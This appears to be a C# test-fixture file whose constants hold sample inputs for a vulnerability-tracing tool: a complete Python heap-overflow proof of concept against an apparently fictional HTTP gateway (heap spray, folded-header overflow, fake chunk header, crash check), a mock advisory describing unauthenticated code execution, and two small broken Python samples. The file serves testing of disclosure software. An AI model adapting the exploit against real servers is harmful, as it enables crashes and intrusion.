namespace Forewarn.Server.Tests.Tracing;

/// <summary>PoCs the tracing tests upload: a realistic Python script (as in Forewarn.Tracing.Tests) and broken ones.</summary>
internal static class TracingSamples
{
    /// <summary>A 169-line Python PoC with ordinary code marks: locals, literals, quotes, comments, imports.</summary>
    public const string PythonPoc = """"
#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Proof of concept: heap overflow in the Halcyon Gateway HTTP header parser.

Embargoed. Sends a crafted request whose folded header continuation lines make the
parser copy past the end of its 4 KiB header buffer.
"""
import argparse
import socket
import struct
import sys
import time
import binascii

DEFAULT_PORT = 8080
HEADER_BUFFER = 4096
CHUNK_SIZE = 512
MAGIC_COOKIE = 0x48414C43
RETRY_LIMIT = 3
USER_AGENT = 'halcyon-poc/1.0'


def log(level, text):
    # Show a message with a simple prefix so the output is easy to grep
    stamp = time.strftime('%H:%M:%S')
    sys.stderr.write('[%s] %s: %s\n' % (stamp, level, text))


def parse_args(argv):
    parser = argparse.ArgumentParser(description='Halcyon Gateway header overflow PoC')
    parser.add_argument('host', help='target host name or address')
    parser.add_argument('--port', type=int, default=DEFAULT_PORT)
    parser.add_argument('--overflow', type=int, default=256, help='bytes written past the buffer')
    parser.add_argument('--timeout', type=float, default=5.0)
    parser.add_argument('--check-only', action='store_true', help='only check the banner')
    return parser.parse_args(argv)


def connect(host, port, timeout):
    # Open a TCP connection to the target; retry a few times before we give up
    attempt = 0
    while True:
        try:
            conn = socket.create_connection((host, port), timeout=timeout)
            conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            return conn
        except OSError as exc:
            attempt += 1
            if attempt >= RETRY_LIMIT:
                raise
            log('warn', 'connection failed (%s), retrying' % exc)
            time.sleep(0.5 * attempt)


def read_banner(sock):
    # The gateway answers a bare HEAD with its version in the Server header
    sock.sendall(b'HEAD / HTTP/1.1\r\nHost: x\r\n\r\n')
    reply = sock.recv(2048)
    for raw in reply.split(b'\r\n'):
        if raw.lower().startswith(b'server:'):
            return raw[7:].strip().decode('latin-1')
    return None


def is_vulnerable(banner):
    # Versions before 2.14.3 are affected; later builds check the folded length
    if banner is None or not banner.startswith('Halcyon/'):
        return False
    version = banner.split('/', 1)[1]
    numbers = [int(x) for x in version.split('.')[:3]]
    while len(numbers) < 3:
        numbers.append(0)
    return tuple(numbers) < (2, 14, 3)


def build_spray(count):
    # Build a large header of filler so the allocator places our chunk next to the victim
    pieces = []
    for index in range(count):
        filler = b'A' * (CHUNK_SIZE - 16)
        pieces.append(b'X-Fill-%d: ' % index + filler)
    return b'\r\n'.join(pieces)


def build_trailer(overflow):
    # The fake chunk header: size field, then the cookie the parser checks
    fake_size = struct.pack('<I', 0x21)
    cookie = struct.pack('<I', MAGIC_COOKIE)
    padding = b'B' * max(0, overflow - 8)
    return fake_size + cookie + padding


def build_request(host, overflow):
    # Each continuation line starts with a tab; the parser forgets their length
    head = b'GET /status HTTP/1.1\r\nHost: ' + host.encode('ascii') + b'\r\n'
    agent = b'User-Agent: ' + USER_AGENT.encode('ascii') + b'\r\n'
    spray = build_spray(16) + b'\r\n'
    folded = b'X-Folded: start\r\n'
    remaining = HEADER_BUFFER + overflow
    while remaining > 0:
        line = b'\t' + b'C' * min(remaining, 0x3F) + b'\r\n'
        folded += line
        remaining -= 64
    folded += b'\t' + build_trailer(overflow) + b'\r\n'
    return head + agent + spray + folded + b'\r\n'


def send_all(sock, payload):
    # Send the whole request in small pieces; a single write is sometimes split anyway
    offset = 0
    while offset < len(payload):
        sent = sock.send(payload[offset:offset + CHUNK_SIZE])
        if sent == 0:
            raise ConnectionError('socket closed during send')
        offset += sent
    return offset


def wait_for_crash(host, port, timeout):
    # After the overflow the worker dies; a new connection is refused for a while
    deadline = time.time() + timeout
    while time.time() < deadline:
        try:
            probe = socket.create_connection((host, port), timeout=1)
            probe.close()
        except OSError:
            return True
        time.sleep(0.25)
    return False


def hexdump(blob, width=16):
    rows = []
    for start in range(0, len(blob), width):
        piece = blob[start:start + width]
        rows.append('%08x  %s' % (start, binascii.hexlify(piece).decode('ascii')))
    return '\n'.join(rows)


def main(argv):
    args = parse_args(argv)
    log('info', 'target %s:%d' % (args.host, args.port))
    sock = connect(args.host, args.port, args.timeout)
    banner = read_banner(sock)
    sock.close()
    log('info', 'banner: %r' % banner)
    if not is_vulnerable(banner):
        log('info', 'target does not look vulnerable; stopping')
        return 1
    if args.check_only:
        return 0
    request = build_request(args.host, args.overflow)
    log('debug', 'request is %d bytes' % len(request))
    if len(request) > 0x10000:
        log('warn', 'request is large enough to be cut by a proxy')
    victim = connect(args.host, args.port, args.timeout)
    total = send_all(victim, request)
    victim.close()
    log('info', 'sent %d bytes' % total)
    if wait_for_crash(args.host, args.port, 10):
        log('info', 'worker crashed: the target is vulnerable')
        return 0
    log('info', 'no crash seen; the heap layout may differ')
    print(hexdump(request[-64:]))
    return 2


if __name__ == '__main__':
    sys.exit(main(sys.argv[1:]))
"""";

    /// <summary>A five-paragraph technical description (as in Forewarn.Tracing.Tests): room for many prose marks.</summary>
    public const string Description = """
        A deserialisation flaw in the management interface of Northwind Gateway versions prior to 4.2.7 allows an unauthenticated remote attacker to execute arbitrary code as the `gwadmin` service account. The issue is tracked as CVE-2026-31337 and has a CVSS base score of 9.8.

        The interface accepts serialised session objects over TCP port 8443 and does not verify that the class named in the stream is on the allow list before it is instantiated. A specially crafted object graph sent in a single request results in code execution during deserialisation. No prior authentication is required, and the attack does not depend on any user interaction. The vendor confirmed that the default configuration is affected, i.e., installations that have not changed the `remote_admin` setting.

        Successful exploitation allows the attacker to obtain sensitive information such as stored credentials, certificates and session keys, to modify routing rules, and to pivot towards internal networks. In our testing, 3 requests were sufficient to obtain a reverse shell on all four appliance models we examined, and the exploit completed in under ten seconds. Repeated attempts did not cause the service to crash, so exploitation cannot be detected by watching for restarts alone.

        We have observed scanning for the vulnerable endpoint from 2 autonomous systems since 14 November 2026, and a working exploit is circulating in private channels. Exposure data suggests that roughly 12,000 gateways are reachable from the internet, including deployments in energy, healthcare and government networks. Attackers do not need valid credentials, and the vulnerable code path is reachable before any authorisation check is performed.

        The flaw is fixed in 4.2.7 and later releases. Versions 3.x are no longer supported and will not receive a fix. Additionally, the vendor has published guidance for customers who cannot upgrade immediately, e.g. blocking inbound access to the management interface at the network edge.
        """;

    /// <summary>Python that does not parse (an unclosed bracket).</summary>
    public const string BrokenPython = """
        import socket

        def send(host, port):
            s = socket.create_connection((host, port)
            s.sendall(b"GET / HTTP/1.1\r\n\r\n")
            return s.recv(4096)
        """;

    /// <summary>Python that parses, with a mark template whose second variant breaks it.</summary>
    public const string PythonWithBreakingTemplate = """
        import sys

        def main(argv):
            count = {{fw:len(argv)|len(argv) +}}
            print("arguments:", count)
            return 0

        if __name__ == "__main__":
            sys.exit(main(sys.argv))
        """;
}
